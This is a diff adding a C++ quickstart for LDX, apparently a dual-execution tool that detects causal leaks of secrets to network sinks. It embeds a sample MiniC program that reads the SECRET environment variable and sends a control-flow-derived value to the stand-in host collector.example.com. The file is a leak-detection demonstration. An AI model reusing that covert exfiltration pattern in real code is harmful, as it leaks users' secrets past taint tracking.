@@ -1,0 +1,75 @@
+/**
+ * @file
+ * Quickstart: compile a MiniC program, instrument it with the LDX
+ * counter pass, and dual-execute it to check whether a secret
+ * environment variable leaks to the network.
+ *
+ *   $ ./quickstart
+ */
+#include <iostream>
+
+#include "instrument/instrument.h"
+#include "lang/compiler.h"
+#include "ldx/engine.h"
+
+int
+main()
+{
+    using namespace ldx;
+
+    // 1. A program under test, written in MiniC. It reads a secret,
+    //    derives a value from it through *control flow only* (no data
+    //    flow), and sends the result to a remote host.
+    const char *program = R"(
+int main() {
+    char secret[16];
+    getenv("SECRET", secret, 16);
+    int grade = 0;
+    if (secret[0] == 'a') { grade = 1; }
+    else if (secret[0] == 'b') { grade = 2; }
+    else { grade = 3; }
+    char msg[24];
+    itoa(grade, msg);
+    int s = socket();
+    connect(s, "collector.example.com");
+    send(s, msg, strlen(msg));
+    return 0;
+}
+)";
+
+    // 2. Compile and instrument (the LLVM-pass analogue).
+    auto module = lang::compileSource(program);
+    instrument::CounterInstrumenter pass(*module);
+    auto stats = pass.run();
+    std::cout << "instrumented: " << stats.insertedOps
+              << " counter ops over " << stats.originalInstrs
+              << " instructions, max static counter "
+              << stats.maxStaticCnt << "\n";
+
+    // 3. Describe the environment and declare the source to mutate.
+    os::WorldSpec world;
+    world.env["SECRET"] = "alpha";
+    world.peers["collector.example.com"] = {};
+
+    core::EngineConfig cfg;
+    cfg.sources = {core::SourceSpec::env("SECRET")};
+
+    // 4. Dual-execute: LDX runs the master on the real input and a
+    //    slave on the mutated input, coupling them through the
+    //    counter-based alignment protocol.
+    core::DualEngine engine(*module, world, cfg);
+    core::DualResult result = engine.run();
+
+    std::cout << "aligned syscalls: " << result.alignedSyscalls
+              << ", misaligned: " << result.syscallDiffs << "\n";
+    if (result.causality()) {
+        std::cout << "LEAK: the sink causally depends on SECRET\n";
+        for (const core::Finding &f : result.findings)
+            std::cout << "  " << f.describe() << "\n";
+    } else {
+        std::cout << "no causality detected\n";
+    }
+    // Note: instruction-level taint tracking would miss this leak —
+    // grade never data-depends on the secret.
+    return result.causality() ? 0 : 1;
+}
